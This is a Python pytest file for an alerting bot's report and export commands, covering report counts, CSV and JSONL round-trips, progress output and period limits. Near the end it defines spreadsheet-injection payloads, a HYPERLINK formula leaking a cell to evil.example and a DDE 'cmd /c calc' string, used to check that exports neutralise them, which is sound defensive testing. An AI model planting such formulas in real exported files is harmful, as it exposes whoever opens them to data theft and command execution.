"""`tocsin report` and `tocsin export` over a real database filled through the real path."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from sqlmodel import col, select
from typer.testing import CliRunner

from bot.cli import app as cli
from bot.review.export_format import CSV_COLUMNS
from bot.slack import ids
from storage.review.export import FIELDS
from storage.tables import AlertEventRow, AlertRow, FollowUpRow, OutboxRow, ResolutionRow
from tests.support.databases import database
from tests.support.harness import Harness, running_tocsin


@pytest.fixture
async def tocsin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Harness]:
    async with database("sqlite", tmp_path) as url, running_tocsin(database_url=url) as harness:
        monkeypatch.setenv("TOCSIN_DATABASE_URL", url)
        yield harness


async def invoke(*args: str) -> str:
    result = await asyncio.to_thread(CliRunner().invoke, cli, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


async def two_alerts_one_resolved(tocsin: Harness) -> None:
    await tocsin.webhook("generic", {"title": "Disk full", "level": 2, "fingerprint": "disk"})
    await tocsin.webhook("generic", {"title": "Queue slow", "level": 3, "fingerprint": "queue"})
    messages = await tocsin.wait_for_messages(2)
    first = next(m for m in messages if "Disk full" in m.text)
    await tocsin.driver.press_button(
        channel=first.channel, ts=first.ts, action_id=ids.ACKNOWLEDGE, user="U0ALICE"
    )
    await tocsin.webhook(
        "generic", {"title": "Disk full", "status": "resolved", "fingerprint": "disk"}
    )

    async def resolved() -> bool:
        async with tocsin.service.db.read() as session:
            rows = (await session.exec(select(AlertRow).where(AlertRow.status == "resolved"))).all()
        return len(rows) == 1

    await tocsin.until(resolved, what="the first alert to be resolved")

    async def delivered() -> bool:  # the CLI shares stdout with the service's log lines
        async with tocsin.service.db.read() as session:
            rows = await session.exec(select(OutboxRow).where(OutboxRow.status == "pending"))
            return not rows.all()

    await tocsin.until(delivered, what="every Slack delivery to be done")


async def test_report_json_counts_alerts_and_acknowledgements(tocsin: Harness) -> None:
    await two_alerts_one_resolved(tocsin)
    data = json.loads(await invoke("report", "1d", "--format", "json"))
    overall = data["overall"]
    assert overall["alerts"] == 2
    assert overall["resolved"] == 1
    assert overall["resolved_by_source"] == 1
    assert overall["open"] == 1
    assert overall["acknowledged"] == 1
    assert data["by_person"]["U0ALICE"]["alerts"] == 1
    assert set(data["by_level"]) == {"2", "3"}
    assert data["root_causes"] == {"by the source": 1}


async def test_report_text_and_csv_show_the_same_groups(tocsin: Harness) -> None:
    await two_alerts_one_resolved(tocsin)
    async with tocsin.service.db.write() as session:
        disk = (await session.exec(select(AlertRow).where(AlertRow.status == "resolved"))).one()
        now = datetime.now(UTC)
        assert disk.id is not None
        session.add(
            FollowUpRow(
                alert_id=disk.id, text="more disk", owner="U0ALICE", due_at=now,
                created_by="U0ALICE", created_at=now,
            )
        )  # fmt: skip
    text = await invoke("report", "7d")
    assert "2 alerts (1 open)" in text
    assert "follow-ups: 1 (1 open)" in text
    assert "Follow-ups by owner" in text
    assert "By person" in text
    assert "Root causes" in text
    assert "by the source: 1" in text
    csv_out = await invoke("report", "7d", "--format", "csv")
    assert csv_out.splitlines()[0].startswith("group,name,alerts")
    assert csv_out.splitlines()[0].endswith(",follow_ups,follow_ups_open")
    assert any(line.startswith("team,ops,2,") for line in csv_out.splitlines())


@pytest.mark.parametrize(
    ("command", "period"),
    [
        ("report", "999999999w"),  # overflowed: a traceback
        ("report", "2026-01-01..9999-12-31"),  # overflowed: a traceback
        ("report", "2000-01-01..2030-12-31"),  # 31 years, walked hour by hour
        ("report", "0001-01-02..9999-12-30"),  # 10,000 years: minutes, then a traceback
        ("noise", "999999999w"),  # the same periods, the same bound
    ],
)
async def test_report_refuses_an_abusive_period_in_one_line(
    tocsin: Harness, command: str, period: str
) -> None:
    result = await asyncio.to_thread(CliRunner().invoke, cli, [command, period])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert f'period: "{period}": ' in result.output
    assert "at most 400 days" in result.output or "between 1970-01-01" in result.output


def _plain(value: Any) -> Any:
    return value.isoformat() if isinstance(value, datetime) else value


async def settle(tocsin: Harness, alerts: int) -> None:
    """Wait until every warning is posted and recorded, and nothing is left to deliver."""

    async def quiet() -> bool:
        async with tocsin.service.db.read() as session:
            pending = (
                await session.exec(select(OutboxRow).where(OutboxRow.status == "pending"))
            ).all()
            posted = (
                await session.exec(select(AlertEventRow).where(AlertEventRow.kind == "posted"))
            ).all()
        return not pending and len(posted) == alerts

    await tocsin.until(quiet, what="deliveries to finish")


async def database_records(tocsin: Harness) -> list[dict[str, Any]]:
    """Every alert as the database holds it, with its timeline and resolution figures."""
    async with tocsin.service.db.read() as session:
        alerts = (await session.exec(select(AlertRow).order_by(col(AlertRow.id)))).all()
        events = (await session.exec(select(AlertEventRow).order_by(col(AlertEventRow.id)))).all()
        resolutions = {r.alert_id: r for r in (await session.exec(select(ResolutionRow))).all()}
    records = []
    for alert in alerts:
        record = {name: _plain(getattr(alert, name)) for name in FIELDS}
        resolution = resolutions.get(alert.id or 0)
        record["time_to_acknowledge_s"] = resolution.time_to_acknowledge_s if resolution else None
        record["time_to_resolve_s"] = resolution.time_to_resolve_s if resolution else None
        record["timeline"] = [
            {
                "at": e.at.isoformat(),
                "kind": e.kind,
                "rule": e.rule,
                "actor": e.actor,
                "summary": e.summary,
            }
            for e in events
            if e.alert_id == alert.id
        ]
        records.append(record)
    return records


async def test_jsonl_export_reads_back_equal_to_the_database(
    tocsin: Harness, tmp_path: Path
) -> None:
    await two_alerts_one_resolved(tocsin)
    await tocsin.webhook(
        "generic", {"title": 'Quotes " and, commas\nnewline', "labels": {"k": "é"}}
    )
    await settle(tocsin, 3)
    out = tmp_path / "export.jsonl"
    await invoke("export", "--output", str(out))
    exported = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    expected = await database_records(tocsin)
    assert len(expected) == 3
    assert exported == expected


async def test_csv_export_reads_back_equal_to_the_database(tocsin: Harness, tmp_path: Path) -> None:
    await two_alerts_one_resolved(tocsin)
    await tocsin.webhook(
        "generic", {"title": 'Quotes " and, commas\nnewline', "labels": {"k": "é"}}
    )
    await settle(tocsin, 3)
    out = tmp_path / "export.csv"
    await invoke("export", "--format", "csv", "--output", str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    expected = await database_records(tocsin)
    assert len(rows) == len(expected) == 3
    for row, record in zip(rows, expected, strict=True):
        assert list(row) == list(CSV_COLUMNS)
        for name in CSV_COLUMNS:
            value = record[name]
            if name in ("labels", "timeline"):
                assert json.loads(row[name]) == value, name
            elif value is None:
                assert row[name] == "", name
            else:
                assert row[name] == str(value), name


# --- progress on a terminal, nothing extra when piped ------------------------------------------

_COLOUR = re.compile(r"\x1b\[[0-9;]*m")
_CURSOR = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
_BAR = re.compile(r"[━╸╺╾╼]+")


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> StringIO:
    """What the command draws on stderr when stderr is a terminal (rich's control codes and
    colours removed, one string per redraw)."""
    screen = StringIO()
    monkeypatch.setattr(
        "bot.cli.console", Console(file=screen, force_terminal=True, width=120, soft_wrap=True)
    )
    return screen


def redraws(screen: StringIO) -> list[str]:
    text = _CURSOR.sub("\n", _COLOUR.sub("", screen.getvalue()))
    return [line for line in re.split(r"[\r\n]", text) if line.strip()]


async def test_report_on_a_terminal_draws_one_bar(tocsin: Harness, terminal: StringIO) -> None:
    await two_alerts_one_resolved(tocsin)

    await invoke("report", "1d")

    drawn = [line for line in redraws(terminal) if _BAR.search(line)]
    assert drawn[0].startswith("reading alerts "), drawn
    assert re.search(r" 2/2 \d+:\d\d:\d\d$", drawn[-1]), drawn
    for line in drawn:
        assert len(_BAR.findall(line)) == 1, line


async def test_export_on_a_terminal_shows_its_progress(
    tocsin: Harness, terminal: StringIO, tmp_path: Path
) -> None:
    await two_alerts_one_resolved(tocsin)
    await settle(tocsin, 2)

    await invoke("export", "--output", str(tmp_path / "out.jsonl"))

    drawn = [line for line in redraws(terminal) if "exporting alerts" in line]
    assert any("2/2" in line and len(_BAR.findall(line)) == 1 for line in drawn), drawn
    assert redraws(terminal)[-1] == "exported 2 alert(s)"


async def test_export_piped_writes_only_the_alerts_and_one_closing_line(tocsin: Harness) -> None:
    await two_alerts_one_resolved(tocsin)
    await settle(tocsin, 2)

    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--format", "CSV"])

    assert result.exit_code == 0, result.output
    assert result.stderr == "exported 2 alert(s)\n"
    assert result.stdout.startswith("id,fingerprint,")
    assert len(list(csv.DictReader(StringIO(result.stdout)))) == 2


# --- a database that is there but not migrated -------------------------------------------------


async def test_report_on_an_unmigrated_postgres_database_says_to_migrate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with database("postgres", tmp_path) as url:
        monkeypatch.setenv("TOCSIN_DATABASE_URL", url)

        result = await asyncio.to_thread(CliRunner().invoke, cli, ["report"])

    assert result.exit_code == 1, result.output
    assert result.stderr.count("\n") == 1
    assert result.stderr.endswith(
        ": no Tocsin tables (never migrated); "
        "run `tocsin db upgrade` (or start the service once: `tocsin serve`)\n"
    )
    name = url.rsplit("/", 1)[1]
    assert result.stderr.startswith("postgresql+asyncpg://postgres@127.0.0.1")
    assert f"/{name}: no Tocsin tables" in result.stderr


FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FORMULA_CATEGORY = "@sum(1+1)*cmd|' /c calc'!a0"  # categories are stored lower case


async def formula_alert(tocsin: Harness) -> None:
    await tocsin.webhook(
        "generic", {"title": FORMULA_TITLE, "category": FORMULA_CATEGORY, "level": 2}
    )
    await settle(tocsin, 1)


async def test_the_csv_export_neutralises_formulas(tocsin: Harness, tmp_path: Path) -> None:
    await formula_alert(tocsin)
    out = tmp_path / "export.csv"
    await invoke("export", "--format", "csv", "--output", str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["category"] == "'" + FORMULA_CATEGORY
    assert row["level"] == "2"  # numbers stay numbers
    escaped = FORMULA_TITLE.replace('"', '""')
    assert f'"\'{escaped}"' in out.read_text(encoding="utf-8")  # quoted, behind a quote


async def test_the_csv_report_neutralises_formulas(tocsin: Harness) -> None:
    await formula_alert(tocsin)
    report = list(csv.reader(io.StringIO(await invoke("report", "7d", "--format", "csv"))))
    (category,) = [r for r in report if r[0] == "category"]
    assert category[1:3] == ["'" + FORMULA_CATEGORY, "1"]
